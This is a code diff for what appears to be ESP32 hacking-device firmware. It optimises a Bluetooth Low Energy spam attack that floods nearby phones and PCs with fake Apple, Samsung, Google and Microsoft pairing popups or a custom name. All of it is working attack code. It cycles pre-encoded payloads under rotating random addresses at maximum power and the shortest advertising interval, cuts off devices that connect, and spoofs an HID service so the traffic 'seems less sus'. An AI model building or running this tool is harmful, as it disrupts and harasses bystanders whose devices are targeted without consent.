@@ -1,6 +1,7 @@
 #include "ble_spam.h"
 #include "core/display.h"
 #include "core/mykeyboard.h"
+#include <esp_timer.h>
 #include <globals.h>
 
 // Bluetooth maximum transmit power
@@ -13,6 +14,11 @@
 #define MAX_TX_POWER ESP_PWR_LVL_P9 // Default
 #endif
 
+#define BLE_SPAM_TABLE_SIZE 32     // pre-encoded advertisements cycled through
+#define BLE_SPAM_TABLE_PASSES 4    // passes before the table is encoded again with fresh randoms
+#define BLE_SPAM_ADV_INTERVAL 0x20 // 20 ms, the legacy minimum for connectable advertising
+#define BLE_SPAM_DWELL_MS 25       // air time of each entry, one advertising event or two
+
 /*
 extern "C" {
   uint8_t esp_base_mac_addr[6];
@@ -370,6 +376,7 @@ BLEAdvertisementData GetUniversalAdvertisementData(EBLEPayloadType Type) {
             AdvData_Raw[i++] = 0x80;
             memcpy(&AdvData_Raw[i], Name, name_len);
             i += name_len;
+            free((void *)Name);
 
             AdvData.addData(std::string((char *)AdvData_Raw, 7 + name_len));
             break;
@@ -469,72 +476,86 @@ BLEAdvertisementData GetUniversalAdvertisementData(EBLEPayloadType Type) {
 
     return AdvData;
 }
-//// https://github.com/Spooks4576
-void executeSpam(EBLEPayloadType type) {
-    uint8_t macAddr[6];
-    generateRandomMac(macAddr);
-    esp_base_mac_addr_set(macAddr);
-    BLEDevice::init("");
-    vTaskDelay(10 / portTICK_PERIOD_MS);
-    esp_ble_tx_power_set(ESP_BLE_PWR_TYPE_ADV, MAX_TX_POWER);
-    pAdvertising = BLEDevice::getAdvertising();
-    BLEAdvertisementData advertisementData = GetUniversalAdvertisementData(type);
-    BLEAdvertisementData oScanResponseData = BLEAdvertisementData();
-    NimBLEUUID uuid((uint32_t)(random() & 0xFFFFFF));
-    pAdvertising->addServiceUUID(uuid);
-    pAdvertising->setAdvertisementData(advertisementData);
-    pAdvertising->setScanResponseData(oScanResponseData);
-    pAdvertising->start();
-    vTaskDelay(50 / portTICK_PERIOD_MS);
-
-    pAdvertising->stop();
-    vTaskDelay(10 / portTICK_PERIOD_MS);
-    BLEDevice::deinit();
-}
-
-void executeCustomSpam(String spamName) {
-    // Generate random MAC address
-    uint8_t macAddr[6];
-    for (int i = 0; i < 6; i++) { macAddr[i] = esp_random() & 0xFF; }
-    // Set the MAC address
-    esp_base_mac_addr_set(macAddr);
-
-    // Initialize first time (helps clear the any previus spam)
-    BLEDevice::init("sh4rk");
-
-    vTaskDelay(5 / portTICK_PERIOD_MS);
-
-    // Set to maximum power
-    esp_ble_tx_power_set(ESP_BLE_PWR_TYPE_ADV, MAX_TX_POWER);
-
-    // Get the advertising object
-    pAdvertising = BLEDevice::getAdvertising();
-
-    BLEAdvertisementData advertisementData = BLEAdvertisementData();
+struct BleSpamEntry {
+    uint8_t addr[6]; // static random address, little endian as NimBLE expects it
+    uint8_t len;
+    uint8_t data[BLE_HS_ADV_MAX_SZ];
+};
 
-    // make discoverable
-    advertisementData.setFlags(0x06);
+struct BleSpamMix {
+    EBLEPayloadType type;
+    uint8_t weight; // share of the table taken by this vendor
+};
 
-    // add 3 random digits to the end so it doesnt get blacklisted
-    // String randomName = spamName + "_" + String(esp_random() % 100); //not needed since were changing mac
-    advertisementData.setName(spamName.c_str());
+// Tutti-frutti share of each vendor, raise a weight to see more of that popup
+const BleSpamMix spamAllMix[] = {
+    {Google,     1},
+    {Samsung,    1},
+    {Microsoft,  1},
+    {SourApple,  1},
+    {AppleJuice, 1},
+};
 
-    pAdvertising->addServiceUUID(BLEUUID("1812")); // set to HID service so it seems less sus
+static int bleSpamGapEvent(struct ble_gap_event *event, void *arg) {
+    // a phone that follows the popup would hold the only connection, drop it
+    if (event->type == BLE_GAP_EVENT_CONNECT && event->connect.status == 0) {
+        ble_gap_terminate(event->connect.conn_handle, BLE_ERR_REM_USER_CONN_TERM);
+    }
+    return 0;
+}
 
-    // Set the advertisement data
-    pAdvertising->setAdvertisementData(advertisementData);
+static void encodeEntry(BleSpamEntry &entry, BLEAdvertisementData &&adv) {
+    std::string payload = adv.getPayload();
+    entry.len = min(payload.length(), sizeof(entry.data));
+    memcpy(entry.data, payload.data(), entry.len);
+    esp_fill_random(entry.addr, 6);
+    entry.addr[5] |= 0xC0; // static random address
+}
 
-    // Start advertising
-    pAdvertising->start();
+/*********************************************************************
+**  Function: buildSpamTable
+**  Pre-encodes advertisement payloads and addresses, vendors picked
+**  by weight so the mix holds over a whole pass
+**********************************************************************/
+static void buildSpamTable(BleSpamEntry *table, const BleSpamMix *mix, size_t mixLen) {
+    uint32_t total = 0;
+    for (size_t m = 0; m < mixLen; m++) total += mix[m].weight;
+    for (size_t i = 0; i < BLE_SPAM_TABLE_SIZE; i++) {
+        uint32_t pick = (i * total) / BLE_SPAM_TABLE_SIZE;
+        size_t m = 0;
+        while (m + 1 < mixLen && pick >= mix[m].weight) pick -= mix[m++].weight;
+        encodeEntry(table[i], GetUniversalAdvertisementData(mix[m].type));
+    }
+}
 
-    // Advertise for 20ms
-    // TODO (implement a way to change)
-    vTaskDelay(20 / portTICK_PERIOD_MS);
+static void buildCustomSpamTable(BleSpamEntry *table, const String &spamName) {
+    for (size_t i = 0; i < BLE_SPAM_TABLE_SIZE; i++) {
+        BLEAdvertisementData advertisementData = BLEAdvertisementData();
+        // make discoverable
+        advertisementData.setFlags(0x06);
+        advertisementData.setName(spamName.c_str());
+        // set to HID service so it seems less sus
+        advertisementData.setCompleteServices(BLEUUID((uint16_t)0x1812));
+        encodeEntry(table[i], std::move(advertisementData));
+    }
+}
 
-    // Stop and clean up
-    pAdvertising->stop();
-    vTaskDelay(10 / portTICK_PERIOD_MS);
-    BLEDevice::deinit();
+/*********************************************************************
+**  Function: advertiseEntry
+**  Swaps address and payload straight on the GAP, the stack stays up
+**  between advertisements
+**********************************************************************/
+static bool advertiseEntry(const BleSpamEntry &entry) {
+    ble_gap_adv_stop();
+    if (ble_hs_id_set_rnd(entry.addr) != 0) return false;
+    if (ble_gap_adv_set_data(entry.data, entry.len) != 0) return false;
+
+    ble_gap_adv_params params = {};
+    params.conn_mode = BLE_GAP_CONN_MODE_UND;
+    params.disc_mode = BLE_GAP_DISC_MODE_GEN;
+    params.itvl_min = BLE_SPAM_ADV_INTERVAL;
+    params.itvl_max = BLE_SPAM_ADV_INTERVAL;
+    return ble_gap_adv_start(BLE_OWN_ADDR_RANDOM, NULL, BLE_HS_FOREVER, &params, bleSpamGapEvent, NULL) == 0;
 }
 
 void ibeacon(char *DeviceName, char *BEACON_UUID, int ManufacturerId) {
@@ -617,64 +638,84 @@ void ibeacon(char *DeviceName, char *BEACON_UUID, int ManufacturerId) {
 }
 
 void aj_adv(int ble_choice) { // customSet defaults to false
-    int mael = 0;
-    int timer = 0;
-    int count = 0;
     String spamName = "";
     if (ble_choice == 6) { spamName = keyboard("", 10, "Name to spam"); }
-    timer = millis();
+
+    BleSpamMix single = {AppleJuice, 1};
+    const BleSpamMix *mix = &single;
+    size_t mixLen = 1;
+    String label;
+    switch (ble_choice) {
+        case 0: label = "Applejuice"; break;
+        case 1:
+            label = "SourApple";
+            single.type = SourApple;
+            break;
+        case 2:
+            label = "SwiftPair";
+            single.type = Microsoft;
+            break;
+        case 3:
+            label = "Samsung";
+            single.type = Samsung;
+            break;
+        case 4:
+            label = "Android";
+            single.type = Google;
+            break;
+        case 5:
+            label = "Spam All";
+            mix = spamAllMix;
+            mixLen = sizeof(spamAllMix) / sizeof(spamAllMix[0]);
+            break;
+        case 6: label = "Spamming " + spamName; break;
+    }
+
+    BleSpamEntry *table = (BleSpamEntry *)malloc(BLE_SPAM_TABLE_SIZE * sizeof(BleSpamEntry));
+    if (table == nullptr) {
+        displayError("Out of memory", true);
+        return;
+    }
+
+    // The stack comes up once, only address and payload change per advertisement
+    BLEDevice::init("");
+    esp_ble_tx_power_set(ESP_BLE_PWR_TYPE_ADV, MAX_TX_POWER);
+
+    uint32_t count = 0;
+    uint32_t passes = 0;
+    uint64_t overheadUs = 0;
+    uint32_t redraw = 0;
+    size_t next = 0;
     while (1) {
-        if (millis() - timer > 100) {
-
-            switch (ble_choice) {
-                case 0: // Applejuice
-                    displayTextLine("Applejuice (" + String(count) + ")");
-                    executeSpam(AppleJuice);
-                    break;
-                case 1: // SourApple
-                    displayTextLine("SourApple (" + String(count) + ")");
-                    executeSpam(AppleJuice);
-                    break;
-                case 2: // SwiftPair
-                    displayTextLine("SwiftPair  (" + String(count) + ")");
-                    executeSpam(Microsoft);
-                    break;
-                case 3: // Samsung
-                    displayTextLine("Samsung  (" + String(count) + ")");
-                    executeSpam(Samsung);
-                    break;
-                case 4: // Android
-                    displayTextLine("Android  (" + String(count) + ")");
-                    executeSpam(Google);
-                    break;
-                case 5: // Tutti-frutti
-                    displayTextLine("Spam All  (" + String(count) + ")");
-                    if (mael == 0) executeSpam(Google);
-                    if (mael == 1) executeSpam(Samsung);
-                    if (mael == 2) executeSpam(Microsoft);
-                    if (mael == 3) executeSpam(SourApple);
-                    if (mael == 4) {
-                        executeSpam(AppleJuice);
-                        mael = 0;
-                    }
-                    break;
-                case 6: // custom
-                    displayTextLine("Spamming " + spamName + "(" + String(count) + ")");
-                    executeCustomSpam(spamName);
-            }
-            count++;
-            timer = millis();
+        if (next == 0 && passes++ % BLE_SPAM_TABLE_PASSES == 0) {
+            if (ble_choice == 6) buildCustomSpamTable(table, spamName);
+            else buildSpamTable(table, mix, mixLen);
         }
 
+        int64_t start = esp_timer_get_time();
+        if (advertiseEntry(table[next])) count++;
+        overheadUs += esp_timer_get_time() - start;
+        next = (next + 1) % BLE_SPAM_TABLE_SIZE;
+
+        if (millis() - redraw > 250) {
+            displayTextLine(label + " (" + String(count) + ")");
+            redraw = millis();
+        }
+        vTaskDelay(BLE_SPAM_DWELL_MS / portTICK_PERIOD_MS);
+
         if (check(EscPress)) {
             returnToMenu = true;
             break;
         }
     }
 
-    BLEDevice::init("");
-    vTaskDelay(100 / portTICK_PERIOD_MS);
+    ble_gap_adv_stop();
+    if (count > 0) {
+        log_d(
+            "BLE spam: %lu advertisements, %llu us overhead each", (unsigned long)count, overheadUs / count
+        );
+    }
+    free(table);
     pAdvertising = nullptr;
-    vTaskDelay(100 / portTICK_PERIOD_MS);
     BLEDevice::deinit();
 }